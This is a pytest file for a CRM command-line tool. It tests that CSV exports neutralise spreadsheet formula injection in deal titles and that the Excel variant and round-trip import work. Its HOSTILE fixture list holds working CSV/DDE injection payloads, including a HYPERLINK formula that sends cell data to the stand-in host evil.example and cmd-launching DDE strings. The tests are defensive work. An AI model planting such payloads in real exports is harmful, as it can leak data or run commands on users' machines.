"""CSV export: no cell a spreadsheet would run as a formula; the Excel variant; round trip.

Deal titles come from prospects' mail subjects: an outsider chooses them.
Everything goes through ``run.py`` as a subprocess, on a real SQLite file.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.cli.test_data_cli import run, write

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Devis")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-69.00",
    "Poêle Rika",
]
# What a spreadsheet gets: a ' before a formula start; a plain number stays a number.
SHOWN = ["'" + title for title in HOSTILE[:4]] + ["-69.00", "Poêle Rika"]


def deals_file(tmp_path: Path) -> str:
    stream = io.StringIO()
    writer = csv.writer(stream, lineterminator="\n")
    writer.writerow(["titre", "revenu", "contact_email"])
    writer.writerows([title, "8000,50", f"c{n}@dupont.fr"] for n, title in enumerate(HOSTILE))
    return write(tmp_path, "deals.csv", stream.getvalue())


def exported_titles(text: str, delimiter: str = ",") -> list[str]:
    rows = csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [row["title"] for row in rows]


def csv_of(tmp_path: Path, database: str = "cli.db") -> str:
    exported = run(tmp_path, "export", "--format", "csv", "--entity", "deals", database=database)
    assert exported.returncode == 0, exported.stderr
    return exported.stdout


@pytest.mark.slow
def test_formula_starts_are_neutralised_and_read_back_unchanged(tmp_path: Path) -> None:
    imported = run(tmp_path, "import", "deals", deals_file(tmp_path))
    assert imported.returncode == 0, imported.stdout + imported.stderr
    exported = csv_of(tmp_path)
    assert exported_titles(exported) == SHOWN
    # The quote is Relais' own: importing the export gives back the same titles.
    again = write(tmp_path, "again.csv", exported)
    assert run(tmp_path, "import", "deals", again, database="fresh.db").returncode == 0
    assert exported_titles(csv_of(tmp_path, "fresh.db")) == SHOWN


@pytest.mark.slow
def test_a_tab_or_a_carriage_return_in_front_is_neutralised_too(tmp_path: Path) -> None:
    assert run(tmp_path, "import", "deals", deals_file(tmp_path)).returncode == 0
    backup = json.loads(run(tmp_path, "export").stdout)
    backup["deals"][0]["title"] = "\t=1+1"
    backup["deals"][1]["title"] = "\r=1+1\rsuite"
    restored = run(
        tmp_path, "restore", write(tmp_path, "b.json", json.dumps(backup)), database="r.db"
    )
    assert restored.returncode == 0, restored.stderr
    path = tmp_path / "deals.csv"
    args = ("export", "--format", "csv", "--entity", "deals", "--output", str(path))
    assert run(tmp_path, *args, database="r.db").returncode == 0
    exported = path.read_bytes().decode("utf-8")  # as written: no newline translation
    assert exported_titles(exported)[:3] == ["'\t=1+1", "'\r=1+1\rsuite", SHOWN[2]]
    assert exported.count("\n") == 1 + len(HOSTILE)  # the bare CRs are inside quotes


@pytest.mark.slow
def test_the_excel_variant_has_a_bom_semicolons_decimal_commas_and_crlf(tmp_path: Path) -> None:
    assert run(tmp_path, "import", "deals", deals_file(tmp_path)).returncode == 0
    path = tmp_path / "deals-excel.csv"
    done = run(tmp_path, "export", "--excel", "--entity", "deals", "--output", str(path))
    assert done.returncode == 0, done.stderr
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid;title;")
    text = raw.decode("utf-8-sig")
    assert text.count("\r\n") == text.count("\n") and text.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert [row["title"] for row in rows] == [*SHOWN[:4], "-69,00", "Poêle Rika"]
    assert {row["expected_revenue"] for row in rows} == {"8000,50"}
    back = run(tmp_path, "import", "deals", str(path), database="fresh.db")
    assert back.returncode == 0 and "imported 6 of 6 rows" in back.stdout


def test_excel_and_json_do_not_mix(tmp_path: Path) -> None:
    refused = run(tmp_path, "export", "--excel", "--format", "json")
    assert refused.returncode == 2 and "--excel writes CSV" in refused.stderr
    alone = run(tmp_path, "export", "--excel")
    assert alone.returncode == 2 and "--entity" in alone.stderr
